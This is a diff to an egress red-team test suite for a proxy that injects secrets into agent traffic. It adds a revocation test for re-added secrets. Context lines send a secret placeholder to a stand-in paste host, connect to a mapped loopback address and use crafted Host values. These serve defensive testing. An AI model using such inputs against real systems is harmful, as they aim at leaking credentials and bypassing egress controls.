@@ -177,6 +177,41 @@ describe('egress red team: the real value only to its host, nothing nobody allow
     assert.ok(!(await events(r.task)).some((e) => e.tool === 'net.placeholder-leak'), 'its own host is no leak');
   });
 
+  test('a secret removed and added again under the same name is a new secret: the running task that had it gets it no more, a task started after the add does (it was injected again into the running task)', async () => {
+    const agent = await d.agent();
+    const start = async (name: string) => {
+      const r = await agent.call<{ task: string; egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }>('task.start', { name, secrets: ['READDED'] });
+      await ui.call('grants.create', { task: r.task, source: 'egress', action: 'transfer', resource: `api.example.test:${echo.port}`, effect: 'allow' });
+      return r;
+    };
+    const once = async (r: { egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }) => {
+      const s = await tlsInTunnel(r.egress.sock, api(echo.port), 'api.example.test', r.egress.caBundle);
+      await exchange(s, `GET /readd HTTP/1.1\r\nHost: ${api(echo.port)}\r\nAuthorization: Bearer ${r.egress.placeholders.READDED!}\r\nConnection: close\r\n\r\n`);
+      return echo.seen.at(-1)?.authorization;
+    };
+    try {
+      await ui.call('secrets.add', { name: 'READDED', value: 'first_value_0123456789abcdef', hosts: ['api.example.test'], headers: ['Authorization'] });
+      const a = await start('before the remove');
+      assert.equal(await once(a), 'Bearer first_value_0123456789abcdef');
+      await ui.call('secrets.remove', { name: 'READDED' });
+      assert.equal(await once(a), `Bearer ${a.egress.placeholders.READDED}`);
+      await ui.call('secrets.add', { name: 'READDED', value: 'second_value_0123456789abcdef', hosts: ['api.example.test'], headers: ['Authorization'] });
+      // The running task had the secret taken back: neither its old value nor the new one.
+      assert.equal(await once(a), `Bearer ${a.egress.placeholders.READDED}`);
+      // A task started after the add gets the new secret (control).
+      const b = await start('after the add');
+      assert.equal(await once(b), 'Bearer second_value_0123456789abcdef');
+      // Replacing without a remove is no revocation: a running task keeps the value it started with (docs/egress.md).
+      await ui.call('secrets.add', { name: 'READDED', value: 'third_value_0123456789abcdef', hosts: ['api.example.test'], headers: ['Authorization'] });
+      assert.equal(await once(b), 'Bearer second_value_0123456789abcdef');
+      assert.equal(await once(a), `Bearer ${a.egress.placeholders.READDED}`);
+      assert.equal(await once(await start('after the replace')), 'Bearer third_value_0123456789abcdef');
+      assert.ok(!(await events(a.task)).some((e) => e.tool === 'net.placeholder-leak'), 'its own host is no leak');
+    } finally {
+      agent.close();
+    }
+  });
+
   test('[::ffff:127.0.0.1] is this machine: the prompt says loopback and is high risk (it said nothing: the URL parser writes it ::ffff:7f00:1)', async () => {
     const t = await newTask('mapped loopback');
     const pending = rawExchange(t.sock, `CONNECT [::ffff:127.0.0.1]:${plainUp.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
@@ -191,7 +226,7 @@ describe('egress red team: the real value only to its host, nothing nobody allow
   test('a placeholder in a header name over plain HTTP is recorded and makes the task critical (names were not looked at)', async () => {
     const t = await newTask('placeholder in a name');
     await rawExchange(t.sock, `GET http://paste.example.test:${plainUp.port}/named HTTP/1.1\r\nHost: paste.example.test\r\nX-${t.ph}: 1\r\nConnection: close\r\n\r\n`);
-    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the leak to be recorded', 10_000);
+    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the leak to be recorded', 30_000);
     const leak = (await events(t.task)).find((e) => e.tool === 'net.placeholder-leak');
     assert.equal(leak?.risk.level, 'critical');
   });
@@ -273,7 +308,7 @@ describe('egress red team: the real value only to its host, nothing nobody allow
     );
     assert.match(back, /^HTTP\/1\.1 200/);
     assert.match(back, /HTTP\/1\.1 421/);
-    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the wrong Host to be recorded as a leak', 10_000);
+    await waitFor(async () => (await events(t.task)).some((e) => e.tool === 'net.placeholder-leak'), 'the wrong Host to be recorded as a leak', 30_000);
     for (const host of [`api.example.test.:${tlsUp.port}`, `x@api.example.test:${tlsUp.port}`, 'api.example.test:1', `paste.example.test:${tlsUp.port}`, '']) {
       const t2 = await newTask(`host ${host}`);
       const s2 = await tlsInTunnel(t2.sock, api(tlsUp.port), 'api.example.test', t2.caBundle);
